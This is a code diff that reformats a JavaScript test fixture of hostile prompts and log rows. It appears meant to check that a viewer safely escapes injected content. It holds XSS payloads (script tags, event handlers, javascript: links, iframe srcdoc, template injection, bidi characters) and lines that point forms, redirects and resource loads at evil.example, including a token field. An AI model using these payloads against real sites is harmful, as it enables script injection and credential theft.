@@ -9,10 +9,22 @@ const tail = 'and then explain in six short paragraphs how the tides of a narrow
 export const PROMPTS = [
   ['script', `Zebrafish <script>window.ran = 1</script> ${tail}`],
   ['handler', `Yellowhammer <img src=x onerror="window.ran=1"> <b onmouseover=window.ran=1 style="position:fixed;inset:0">x</b> ${tail}`],
-  ['svg', `Xylophone <svg onload=window.ran=1><a xlink:href="javascript:window.ran=1"><text y=20>x</text></a><animate attributeName=href values=javascript:window.ran=1></svg> ${tail}`],
-  ['link', `Wolverine [read](javascript:window.ran=1) javascript:window.ran=1 <a href="javascript:window.ran=1">x</a> data:text/html,<script>window.ran=1</script> ${tail}`],
-  ['frame', `Viaduct "><iframe srcdoc="<script>parent.ran=1</script>"></iframe><form action=https://evil.example><input name=token></form><base href=https://evil.example/> ${tail}`],
-  ['meta', `Umbrella <meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/a.png> ${tail}`],
+  [
+    'svg',
+    `Xylophone <svg onload=window.ran=1><a xlink:href="javascript:window.ran=1"><text y=20>x</text></a><animate attributeName=href values=javascript:window.ran=1></svg> ${tail}`,
+  ],
+  [
+    'link',
+    `Wolverine [read](javascript:window.ran=1) javascript:window.ran=1 <a href="javascript:window.ran=1">x</a> data:text/html,<script>window.ran=1</script> ${tail}`,
+  ],
+  [
+    'frame',
+    `Viaduct "><iframe srcdoc="<script>parent.ran=1</script>"></iframe><form action=https://evil.example><input name=token></form><base href=https://evil.example/> ${tail}`,
+  ],
+  [
+    'meta',
+    `Umbrella <meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/a.png> ${tail}`,
+  ],
   ['style', `Tambourine </style><style>*{display:none!important}</style> background:url(https://evil.example/b);position:fixed ${tail}`],
   ['template', `Sandpiper {{constructor.constructor('window.ran=1')()}} \${window.ran=1} <%= 7*7 %> #{7*7} ${'`'}window.ran=1${'`'} ${tail}`],
   ['bidi', `Rapscallion \u202eeurt si siht\u202c \u2066isolated \u200f\u061c ${tail}`],
@@ -29,8 +41,18 @@ export function log(day) {
   const rows = [];
   PROMPTS.forEach(([name, prompt], i) => {
     for (let n = 0; n < 6; n += 1) {
-      const minute = String((i * 6 + n) % 60).padStart(2, '0'), hour = String(8 + Math.floor((i * 6 + n) / 60)).padStart(2, '0');
-      rows.push(JSON.stringify({ id: `hostile-${name}-${n}`, account: `<script>window.ran=1</script> attacker ${n} of ${name}`, time: `${day}T${hour}:${minute}:00Z`, model: '<img src=x onerror=window.ran=1>', prompt, response: `<script>window.ran=1</script> answer to ${name}` }));
+      const minute = String((i * 6 + n) % 60).padStart(2, '0'),
+        hour = String(8 + Math.floor((i * 6 + n) / 60)).padStart(2, '0');
+      rows.push(
+        JSON.stringify({
+          id: `hostile-${name}-${n}`,
+          account: `<script>window.ran=1</script> attacker ${n} of ${name}`,
+          time: `${day}T${hour}:${minute}:00Z`,
+          model: '<img src=x onerror=window.ran=1>',
+          prompt,
+          response: `<script>window.ran=1</script> answer to ${name}`,
+        }),
+      );
     }
   });
   return `${rows.join('\n')}\n`;
